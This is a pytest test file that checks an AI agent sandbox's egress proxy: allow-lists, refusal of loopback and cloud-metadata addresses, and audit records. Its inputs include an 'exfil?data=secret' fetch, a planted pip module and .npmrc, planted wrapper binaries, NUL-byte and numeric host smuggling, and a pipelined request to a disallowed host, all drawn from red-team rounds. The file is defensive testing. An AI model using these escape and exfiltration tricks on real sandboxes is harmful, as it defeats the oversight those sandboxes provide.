"""Invariant 10 end to end: the sandbox reaches exactly the hosts the person allowed.

The real `sandbox-agent ask` (no terminal), the stand-in model server, a real container and
its forwarder. Traffic stays on this machine: the upstream is an HTTP server on 127.0.0.1,
allowed explicitly (a name pinned to it with SANDBOX_AGENT_EGRESS_RESOLVE, and its exact
address and port). Destinations that must be refused are refused by the proxy before any
connection (the records say so: no bytes, the refusal's reason): their names are pinned to
loopback or metadata addresses their rules do not cover.
"""

from __future__ import annotations

import ipaddress
import json
import shlex
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from executor.audit import default_audit_dir, verify
from executor.network.deps import remove_deps
from executor.network.presets import preset
from executor.network.proxy import system_resolver
from executor.network.rules import is_public
from tests.docker.cli_support import ask, assert_user_error, explain, run_cli, tool_exchanges
from tests.fakes.model_server import Call, ModelServer
from tests.fakes.tcp_upstream import KeepAlive

pytestmark = pytest.mark.docker


class Upstream:
    """An HTTP server on 127.0.0.1 that records the paths it was asked for."""

    def __init__(self) -> None:
        seen = self.paths = []  # type: list[str]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                body = f"upstream says hello to {self.path}\n".encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(autouse=True)
def _no_leftover_package_volume(workdir: Path, docker_client: Any) -> Iterator[None]:
    """A run with hosts allowed makes its project's package volume: each test removes it."""
    yield
    remove_deps(docker_client, workdir / "proj")


@pytest.fixture
def upstream() -> Iterator[Upstream]:
    server = Upstream()
    try:
        yield server
    finally:
        server.close()


def fetch(url: str) -> str:
    """A shell command that fetches `url` with Python's urllib (proxy-aware) and prints the
    status and body, or the error and its body."""
    code = ("import urllib.request as r, urllib.error as e\n"
            "try:\n"
            f"    print('STATUS 200', r.urlopen({url!r}, timeout=20).read().decode())\n"
            "except e.HTTPError as x:\n"
            "    print('STATUS', x.code, x.read().decode())\n")
    return f"python3 -c {shlex.quote(code)}"


PROBE = (  # inside the sandbox, without the proxy: a raw connect and a name lookup
    "import socket\n"
    "for what, go in (('raw', lambda: socket.create_connection(('127.0.0.1', PORT), 3)),\n"
    "                 ('dns', lambda: socket.getaddrinfo('dns-probe.invalid', 80))):\n"
    "    try:\n"
    "        go(); print(what, 'REACHED')\n"
    "    except OSError as exc:\n"
    "        print(what, 'failed', type(exc).__name__)\n"
)


def connections(root: Path) -> list[dict[str, Any]]:
    recs = [json.loads(line) for path in sorted(default_audit_dir(root).glob("*.ndjson"))
            for line in path.read_bytes().splitlines()]
    return [r for r in recs if r["kind"] == "connection"]


@pytest.mark.engines("runc", "podman")
def test_allowed_denied_and_private_behind_a_name_through_the_cli_all_audited(
        workdir: Path, model_server: ModelServer, upstream: Upstream, engine: Any) -> None:
    root = workdir / "proj"
    root.mkdir()
    port = upstream.port
    pins = {"upstream.test": "127.0.0.1", "sneaky.test": "127.0.0.2",
            "metadata.test": "169.254.169.254"}
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": "; ".join([
        fetch(f"http://upstream.test:{port}/allowed"),
        fetch(f"http://denied.test:{port}/nope"),
        fetch(f"http://sneaky.test:{port}/private"),
        fetch(f"http://metadata.test:{port}/latest/meta-data/"),
    ])})])
    model_server.reply(tool_calls=[Call("run_shell_command", {
        "command": f"python3 -c {shlex.quote(PROBE.replace('PORT', str(port)))}"})])
    model_server.reply(content="done")
    done = ask(root, model_server, "ollama", "--yes", "--json", "--no-stream",
               "--allow-host", f"upstream.test:{port}", "--allow-host", f"127.0.0.1/32:{port}",
               "--allow-host", f"sneaky.test:{port}", "--allow-host", f"metadata.test:{port}",
               env={"SANDBOX_AGENT_EGRESS_RESOLVE": json.dumps(pins)})
    assert done.returncode == 0, explain(done)

    (_, _, first), (_, _, second) = tool_exchanges(model_server.last_chat)
    assert "STATUS 200 upstream says hello to /allowed" in first
    assert ("STATUS 403 blocked: denied.test is not allowed; the person can allow it with "
            "--allow-host denied.test") in first
    assert "sneaky.test is refused: it resolves to 127.0.0.2, a loopback address" in first
    assert "metadata.test is refused: it resolves to 169.254.169.254, a cloud metadata" in first
    # whatever the client prints, the result names each refusal with the proxy's reason
    assert (f"network: denied denied.test:{port}: blocked: denied.test is not allowed; the "
            "person can allow it with --allow-host denied.test") in first
    assert f"network: denied metadata.test:{port}: metadata.test is refused" in first
    assert "network:" not in second
    assert "raw failed ConnectionRefusedError" in second  # the upstream is not in its namespace
    assert "dns failed gaierror" in second
    assert upstream.paths == ["/allowed"]  # sneaky.test never reached it

    by_host = {r["host"]: r for r in connections(root)}
    assert set(by_host) == {"upstream.test", "denied.test", "sneaky.test", "metadata.test"}
    allowed = by_host["upstream.test"]
    assert (allowed["decision"], allowed["address"], allowed["port"]) == ("allowed", "127.0.0.1",
                                                                          port)
    assert (allowed["rule"], allowed["allowed_by"]) == (f"upstream.test:{port}", "--allow-host")
    assert allowed["address_rule"] == f"127.0.0.1/32:{port}"
    assert allowed["bytes_up"] > 0 and allowed["bytes_down"] > 0 and allowed["method"] == "GET"
    denied = by_host["denied.test"]
    assert (denied["decision"], denied["address"], denied["rule"]) == ("denied", None, None)
    for host, address in (("sneaky.test", "127.0.0.2"), ("metadata.test", "169.254.169.254")):
        assert (by_host[host]["decision"], by_host[host]["address"]) == ("denied", address)
        assert by_host[host]["bytes_down"] == 0
    report = json.loads(done.stdout)
    call_id = report["tool_calls"][0]["id"]
    assert {r["call_id"] for r in by_host.values()} == {call_id}
    assert {(c["host"], c["decision"]) for c in report["connections"]} == {
        (h, r["decision"]) for h, r in by_host.items()}
    assert verify(default_audit_dir(root)).ok
    shown = run_cli("audit", "show", "--root", root)
    assert "connection" in shown.stdout and "upstream.test" in shown.stdout, explain(shown)
    assert "4 connections, 3 blocked" in done.stderr, explain(done)


@pytest.mark.engines("runsc")
def test_under_gvisor_allow_host_is_refused_in_one_line(workdir: Path, model_server: ModelServer,
                                                        engine: Any) -> None:
    root = workdir / "proj"
    root.mkdir()
    done = ask(root, model_server, "ollama", "--yes", "--allow-host", "a.test")
    assert_user_error(done, 2, "--allow-host does not work under gVisor (runsc)")
    assert model_server.chat_requests == []  # said before the model was asked


def test_without_allow_host_there_is_no_proxy_and_no_forwarder(
        workdir: Path, model_server: ModelServer) -> None:
    root = workdir / "proj"
    root.mkdir()
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": (
        "env | grep -ci proxy; python3 -c \"import socket; socket.create_connection("
        "('127.0.0.1', 3128), 3)\" 2>&1 | tail -1")})])
    model_server.reply(content="done")
    done = ask(root, model_server, "ollama", "--yes", "--no-stream")
    assert done.returncode == 0, explain(done)
    ((_, _, output),) = tool_exchanges(model_server.last_chat)
    assert output.splitlines()[2:4] == [
        "0", "ConnectionRefusedError: [Errno 111] Connection refused"], output  # no forwarder


def mirror_ranges(hosts: list[str]) -> list[str]:
    """`--allow-host ADDR/32:443` for each non-public address the index hosts resolve to: on
    a machine whose mirror sits on a private or documentation address (this one's does), the
    person has to allow exactly that, and the test does what they would."""
    ranges: dict[str, None] = {}
    for rule in hosts:
        name, _, port = rule.partition(":")
        for text in system_resolver(name, int(port or 443)):
            address = ipaddress.ip_address(text)
            if not is_public(address):
                ranges[f"{address}/{address.max_prefixlen}:{port or 443}"] = None
    return [flag for text in ranges for flag in ("--allow-host", text)]


def test_pip_install_through_the_proxy_from_the_index_pip_is_configured_with(
        workdir: Path, model_server: ModelServer, docker_client: Any) -> None:
    """One real install of a small pure-Python package, from the index this machine's pip
    is configured with (read from pip's configuration now, never written down here)."""
    hosts = preset("pypi").hosts
    if not hosts:
        pytest.skip("pip is configured with no http(s) index here (file:// only)")
    root = workdir / "proj"
    root.mkdir()
    (root / "requirements.txt").write_text("six\n")
    model_server.reply(tool_calls=[Call("run_shell_command", {"timeout_seconds": 100, "command": (
        "python3 -m pip install -q --no-input -r requirements.txt && python3 -c "
        "'import six; print(\"SIX\", six.__file__)'")})])
    model_server.reply(content="installed")
    try:
        done = ask(root, model_server, "ollama", "--yes", "--no-stream", "--network", "pypi",
                   *mirror_ranges(hosts))
        assert done.returncode == 0, explain(done)
        ((_, _, output),) = tool_exchanges(model_server.last_chat)
        assert "SIX /opt/sandbox-deps/python/lib/python3" in output, output
        assert sorted(p.name for p in root.iterdir()) == ["requirements.txt"]  # nothing built here
        made = connections(root)
        assert made and all(r["decision"] == "allowed" for r in made), made
        assert {r["allowed_by"] for r in made} == {"preset pypi"}
        assert {r["rule"] for r in made} <= set(hosts)
        assert {r["address_rule"] for r in made} <= {None, *mirror_ranges(hosts)[1::2]}
        assert all(r["method"] == "CONNECT" or r["port"] == 80 for r in made)
    finally:
        removed = run_cli("gc", "--deps", "--root", root)
    assert "removed volume sandbox-agent-deps-" in removed.stdout, explain(removed)


@pytest.mark.parametrize("network", ["pypi", "npm"])
def test_a_preset_reads_the_persons_configuration_never_the_projects(
        workdir: Path, model_server: ModelServer, upstream: Upstream, tmp_path: Path,
        network: str) -> None:
    """Red-team round 25: run from the project's directory (as `--root .` is), `--network pypi`
    ran the project's `pip/__main__.py` on the host (`python -m pip` puts the current directory
    first on its path), and `--network npm` took the project's `.npmrc`: the registry it named,
    an address on the host's loopback, became an allowed destination."""
    import shutil
    import subprocess

    from tests.docker.cli_support import SANDBOX_AGENT, cli_env, model_args

    if network == "npm" and shutil.which("npm") is None:
        pytest.skip("npm is not installed here: --network npm refuses to start without it")
    root, marker = workdir / "proj", tmp_path / "ran-on-the-host"
    (root / "pip").mkdir(parents=True)
    (root / "pip" / "__init__.py").write_text("")
    (root / "pip" / "__main__.py").write_text(
        f"open({str(marker)!r}, 'a').write('ran')\n"
        f"print(\"global.index-url='http://127.0.0.1:{upstream.port}/simple'\")\n")
    (root / ".npmrc").write_text(f"registry=http://127.0.0.1:{upstream.port}/\n")
    model_server.reply(tool_calls=[Call("run_shell_command", {
        "command": fetch(f"http://127.0.0.1:{upstream.port}/exfil?data=secret")})])
    model_server.reply(content="fetched")
    done = subprocess.run(
        [str(SANDBOX_AGENT), "ask", "--root", ".", *model_args(model_server, "ollama"), "--yes",
         "--no-stream", "--network", network, "fetch it"], cwd=root, env=cli_env(),
        stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, explain(done)
    assert not marker.exists(), explain(done)
    assert upstream.paths == [], explain(done)
    ((_, _, output),) = tool_exchanges(model_server.last_chat)
    assert "STATUS 200" not in output, output


def test_programs_of_ours_are_never_found_in_the_package_volume(
        workdir: Path, model_server: ModelServer, upstream: Upstream) -> None:
    """Red-team round 26: with hosts allowed, the container's PATH began with the package
    volume's `bin` (the sandbox's to write, kept between sessions), and the host's own
    programs in it were started as a bare `python3` (PID 1, the toolbox, the kill script),
    the toolbox's `rg` too: a planted one then spoke for the sandbox. Only the commands a
    call runs get that PATH now."""
    root = workdir / "proj"
    root.mkdir()
    (root / "a.txt").write_text("needle\n")
    bin_dir = "/opt/sandbox-deps/python/bin"
    plant = "; ".join(
        f"printf '#!/bin/sh\\necho {name} >> /opt/sandbox-deps/ran\\nexec {real} \"$@\"\\n' "
        f"> {bin_dir}/{name} && chmod +x {bin_dir}/{name}"
        for name, real in (("python3", "/usr/bin/python3"), ("rg", "/usr/bin/rg")))
    model_server.reply(tool_calls=[
        Call("run_shell_command", {"command": f"mkdir -p {bin_dir} && {plant}; echo planted"}),
        Call("search_files", {"pattern": "needle"}),
        Call("run_shell_command", {"command": "kill -9 $PPID; sleep 1"}),
        Call("search_files", {"pattern": "needle"}),
        Call("run_shell_command", {"command": (
            "echo RAN=$(cat /opt/sandbox-deps/ran 2>/dev/null); echo PATH=$PATH; "
            "command -v python3")})])
    model_server.reply(content="looked")
    done = ask(root, model_server, "ollama", "--yes", "--no-stream", "--allow-host",
               f"127.0.0.1/32:{upstream.port}")
    assert done.returncode == 0, explain(done)
    *_, (_, _, last) = tool_exchanges(model_server.last_chat)
    assert "RAN=\n" in last, last  # nothing of ours ran the planted programs
    assert f"PATH={bin_dir}:" in last and f"{bin_dir}/python3" in last, last  # the commands'


def test_at_a_terminal_a_host_no_rule_allows_is_asked_inert(
        workdir: Path, model_server: ModelServer, upstream: Upstream) -> None:
    """y/n/a, like every other prompt: `a` holds for the session, `n` is a 403 for the model;
    the host, the port and the command that asked are shown, escapes inert."""
    from tests.docker.test_cli_terminal import ask_argv, converse

    root = workdir / "proj"
    root.mkdir()
    port = upstream.port
    twice = "; ".join([fetch(f"http://localhost:{port}/one"), fetch(f"http://localhost:{port}/two"),
                       fetch(f"http://other.test:{port}/three")])
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": twice + " #\x1b[2K"})])
    model_server.reply(content="done")
    # the range makes `localhost` go through the proxy (host's loopback); no rule names it
    argv = ask_argv(root, model_server, "--yes", "--no-stream", "--allow-host",
                    f"127.0.0.1/32:{port}")
    seen = converse(argv, [b"a\n", b"n\n"], prompt=b"Allow this connection?")
    assert seen.code == 0, seen.text()
    assert len(seen.at_prompts) == 2, seen.text()
    first = "\n".join(seen.at_prompts[0])
    assert f"the sandbox asks to connect to localhost:{port}" in first
    assert "while running: $ python3 -c" in first and "\\x1b[2K" in first  # shown inert
    assert f"the sandbox asks to connect to other.test:{port}" in "\n".join(seen.at_prompts[1])
    ((_, _, output),) = tool_exchanges(model_server.last_chat)
    assert upstream.paths == ["/one", "/two"], output  # asked once; other.test refused
    assert "STATUS 403 blocked: other.test is not allowed" in output
    by_path = [(r["host"], r["decision"], r["allowed_by"]) for r in connections(root)]
    assert by_path == [("localhost", "allowed", "user:session"),
                       ("localhost", "allowed", "user:session"),
                       ("other.test", "denied", None)]


def test_a_resume_with_another_allow_list_gets_a_new_container(
        project: Path, model_server: ModelServer, docker_client: Any) -> None:
    """The allow-list is part of the sandbox spec: a container (and its forwarder) made for
    other hosts is not re-used; the forwarder of a killed controller ends by itself."""
    from tests.docker.test_run_invariants import _first_run, containers

    _first_run(project, model_server, "--allow-host", "a.test")
    old = {c.name: c.id for c in containers(docker_client, project)}
    name = next(n for n in old if not n.endswith("-egress"))
    assert sorted(old) == [name, f"{name}-egress"], old
    forwarder = docker_client.containers.get(old[f"{name}-egress"])
    for _ in range(100):  # its proxy died with the controller: it notices within seconds
        forwarder.reload()
        if forwarder.status == "exited":
            break
        time.sleep(0.1)
    assert forwarder.status == "exited"
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": "cat /tmp/mark; true"})])
    model_server.reply("Again.")
    done = ask(project, model_server, "ollama", "--yes", "--session", "s1", "--resume",
               "--allow-host", "b.test", query="again")
    assert done.returncode == 0, explain(done)
    # a bind session never re-uses a container; a copy one refuses another allow-list
    # (test_sandbox_spec.py::test_the_allow_list_is_part_of_the_spec)
    assert "ended without its controller" in done.stderr, explain(done)
    assert "kept" not in model_server.last_chat.body["messages"][-1]["content"]
    assert containers(docker_client, project) == []  # both gone with the run


RAW_CONNECT = (  # inside the sandbox: CONNECT lines written to the proxy by hand
    "import socket\n"
    "for target in TARGETS:\n"
    "    s = socket.create_connection(('127.0.0.1', 3128), 10)\n"
    "    s.sendall(('CONNECT %s HTTP/1.1\\r\\n\\r\\n' % target).encode('latin-1'))\n"
    "    print(repr(target), s.recv(200).split(b'\\r\\n')[0].decode('latin-1'))\n"
    "    s.close()\n"
)


def test_a_wildcard_rule_opens_no_host_that_is_not_a_name(
        workdir: Path, model_server: ModelServer, upstream: Upstream) -> None:
    """Red-team round 15 (critical): with `*.example.org` allowed, `127.0.0.1\\0.example.org`
    matched the rule while the resolver stopped at the NUL and gave 127.0.0.1; numeric forms
    such as `0x7f.0.0.1` passed as names and resolved to it too. Each is a 400 now, audited,
    and the upstream (on the loopback range the test allows) is never reached."""
    root = workdir / "proj"
    root.mkdir()
    port = upstream.port
    targets = [f"127.0.0.1\x00.example.org:{port}", f"localhost\x00.example.org:{port}",
               f"0x7f.0.0.1:{port}", f"2130706433:{port}", f"*.example.org:{port}"]
    code = RAW_CONNECT.replace("TARGETS", repr(targets))
    model_server.reply(tool_calls=[Call("run_shell_command",
                                        {"command": f"python3 -c {shlex.quote(code)}"})])
    model_server.reply(content="done")
    done = ask(root, model_server, "ollama", "--yes", "--no-stream",
               "--allow-host", f"*.example.org:{port}", "--allow-host", f"127.0.0.1/32:{port}")
    assert done.returncode == 0, explain(done)
    [(_, _, shown)] = tool_exchanges(model_server.last_chat)
    for target in targets:
        assert f"{target!r} HTTP/1.1 400" in shown, shown
    assert upstream.paths == []
    refused = connections(root)
    assert len(refused) == len(targets) and all(
        r["decision"] == "denied" and "bad request" in r["reason"] for r in refused), refused


PIPELINED = (  # inside the sandbox: two requests on one connection to the forwarder, as in
    # red-team round 18's pipe_req.py
    "import socket\n"
    "s = socket.create_connection(('127.0.0.1', 3128), 10)\n"
    "s.sendall(b'GET http://localhost:PORT/first HTTP/1.1\\r\\nHost: localhost:PORT\\r\\n'\n"
    "          b'Content-Length: 0\\r\\n\\r\\nGET /second HTTP/1.1\\r\\n'\n"
    "          b'Host: not-allowed.example\\r\\n\\r\\n')\n"
    "s.shutdown(socket.SHUT_WR)\n"
    "got = b''\n"
    "while True:\n"
    "    chunk = s.recv(65536)\n"
    "    if not chunk:\n"
    "        break\n"
    "    got += chunk\n"
    "print(got.decode('latin-1'))\n"
)


def test_a_pipelined_request_for_another_host_never_reaches_the_upstream(
        workdir: Path, model_server: ModelServer) -> None:
    """Red-team round 18, finding 3: the second request on one plain-HTTP connection went to
    the upstream with its own `Host: not-allowed.example`; the audit showed one allowed GET."""
    root = workdir / "proj"
    root.mkdir()
    upstream = KeepAlive()
    port = upstream.port
    code = PIPELINED.replace("PORT", str(port))
    model_server.reply(tool_calls=[Call("run_shell_command",
                                        {"command": f"python3 -c {shlex.quote(code)}"})])
    model_server.reply(content="done")
    try:
        done = ask(root, model_server, "ollama", "--yes", "--no-stream",
                   "--allow-host", f"localhost:{port}")
    finally:
        upstream.close()
    assert done.returncode == 0, explain(done)
    [(_, _, shown)] = tool_exchanges(model_server.last_chat)
    assert f"upstream saw GET /first HTTP/1.1 Host: localhost:{port}" in shown, shown
    assert "/second" not in shown.partition("network:")[0], shown
    assert upstream.seen == [f"GET /first HTTP/1.1 / Host: localhost:{port}"]
    assert "network: denied not-allowed.example:80: a second request on one connection is " \
           "not relayed" in shown, shown
    made = sorted((r["host"], r["decision"], r["method"]) for r in connections(root))
    assert made == [("localhost", "allowed", "GET"), ("not-allowed.example", "denied", "GET")]
